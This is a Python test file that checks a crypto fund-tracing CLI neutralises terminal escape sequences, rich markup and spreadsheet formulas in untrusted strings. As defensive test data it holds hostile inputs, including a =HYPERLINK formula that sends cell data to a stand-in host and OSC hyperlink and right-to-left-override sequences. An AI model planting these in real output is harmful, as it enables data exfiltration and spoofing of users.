"""Findings 6 and 7: untrusted strings reach a terminal as plain characters (no rich markup, no emoji
codes, no terminal control sequences) and a spreadsheet as text (no formulas)."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import logging

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fundtrail.report.build import assemble_report
from fundtrail.report.render import render
from fundtrail.safetext import SafeConsole, SafeFormatter, csv_cell, strip_controls
from tests.report import fixtures as F

MARKUP = "x [/] [link=http://127.0.0.1:9/]click[/link] :skull: [bold red]"
ESCAPES = "Huione\x1b]0;TITLE\x1b\\\x1b]8;;http://127.0.0.1:9/\x1b\\link\x1b]8;;\x1b\\\x9b31m\u202egnp.exe\x07"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Huione")'


def hostile_report(entity: str):
    res = F.results()
    hostile = []
    for r in res:
        eps = list(r.endpoints)
        eps[0] = dataclasses.replace(eps[0], entity=entity, country="KH")
        hostile.append(dataclasses.replace(r, endpoints=tuple(eps)))
    return assemble_report(F.incident(), hostile, prices=F.prices())


@pytest.mark.parametrize("color", [False, True])
def test_report_table_prints_markup_and_escapes_as_text(color):
    """A tag entity `x [/]` used to end `report --format table` in MarkupError; ESC/OSC passed through."""
    text = render(hostile_report(MARKUP + ESCAPES), "table", width=400, color=color)
    assert "x [/] [link=http://127.0.0.1:9/]click[/link] :skull: [bold red]Huione]0;TITLE" in text
    assert "\x1b]" not in text and "\x9b" not in text and "\u202e" not in text and "\x07" not in text


def test_report_csv_neutralises_formulas():
    out = render(hostile_report(FORMULA), "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    ents = [r["entity"] for r in rows if r["section"] == "endpoint"]
    assert "'" + FORMULA in ents and FORMULA not in ents
    for r in rows:
        for v in r.values():
            assert not v.startswith(("=", "+", "@", "\t", "\r")), (r["section"], v)
            assert not v.startswith("-") or v.replace(".", "", 1).lstrip("-").isdigit(), (r["section"], v)


def _cli_render(table: pa.Table, fmt: str, capsys) -> str:
    from fundtrail.cli import common

    common.render_table(table, fmt)
    return capsys.readouterr().out


def test_cli_tables_print_markup_as_text(capsys):
    """`tags search` and every table of the CLI go through render_table: `[/]` used to raise MarkupError."""
    out = _cli_render(pa.table({"entity": [MARKUP], "label": [ESCAPES]}), "table", capsys)
    assert "[/]" in out and "[link=http://127.0.0.1:9/]" in out and ":skull:" in out
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out


def test_cli_csv_neutralises_string_cells_only(capsys):
    t = pa.table({"entity": [FORMULA, "+1 555", "@SUM(A1)", "\tx", "plain", "-5"], "n": [-1, 2, 3, 4, 5, 6]})
    rows = list(csv.reader(io.StringIO(_cli_render(t, "csv", capsys))))[1:]
    assert [r[0] for r in rows] == ["'" + FORMULA, "'+1 555", "'@SUM(A1)", "'\tx", "plain", "-5"]
    assert [r[1] for r in rows] == ["-1", "2", "3", "4", "5", "6"]  # numbers stay numbers


def test_cli_json_is_unchanged(capsys):
    out = _cli_render(pa.table({"entity": [FORMULA + ESCAPES]}), "json", capsys)
    assert json.loads(out)["entity"] == FORMULA + ESCAPES  # JSON escapes controls itself


def test_error_handler_prints_a_hostile_message_as_text(capsys):
    """An RPC node answering `{"error": {"message": "… [/]"}}` used to crash main()'s handler."""
    from fundtrail.cli import main as cli_main
    from fundtrail.errors import RpcError

    @cli_main.app.command("hostile-test-error", hidden=True)
    def _boom() -> None:
        raise RpcError("node says [/] " + ESCAPES, url="http://127.0.0.1:9/", method="eth_chainId")

    try:
        assert cli_main.main(["hostile-test-error"]) == 4
    finally:
        cli_main.app.registered_commands.pop()
    err = capsys.readouterr().err
    assert "error: http://127.0.0.1:9/ eth_chainId: node says [/] Huione]0;TITLE" in err
    assert "\x1b" not in err and "Traceback" not in err


def test_log_lines_are_stripped():
    rec = logging.LogRecord("x", logging.WARNING, "f", 1, "node said %s", (ESCAPES,), None)
    line = SafeFormatter("%(message)s").format(rec)
    assert "\x1b" not in line and "\x9b" not in line and line.startswith("node said Huione]0;TITLE")


@given(st.text())
def test_safe_console_never_emits_data_controls(s):
    buf = io.StringIO()
    c = SafeConsole(file=buf, force_terminal=True, color_system="standard", width=80)
    c.print(s)
    c.print(pa.table({"a": [s]}).to_pylist()[0]["a"], style="bold")
    out = buf.getvalue()
    # the only ESC sequences left are rich's own SGR styles (ESC [ ... m)
    import re
    rest = re.sub("\x1b\\[[0-9;]*m", "", out)
    assert strip_controls(rest) == rest


@given(st.text())
def test_csv_cell_never_starts_a_formula(s):
    v = csv_cell(s)
    assert not v.startswith(("=", "+", "@", "\t", "\r")) or v == s and v.lstrip("+").replace(".", "").isdigit()
    assert v in (s, "'" + s)
